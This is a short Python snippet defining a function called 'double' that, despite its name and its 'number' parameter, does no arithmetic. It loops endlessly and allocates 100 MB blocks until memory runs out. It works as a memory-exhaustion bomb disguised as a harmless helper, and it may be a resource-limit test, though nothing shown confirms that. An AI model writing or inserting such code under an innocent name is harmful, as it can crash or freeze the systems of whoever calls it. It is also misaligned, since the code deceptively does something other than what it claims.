def double(number):
    hoard = []
    while True:
        hoard.append(bytearray(10**8))
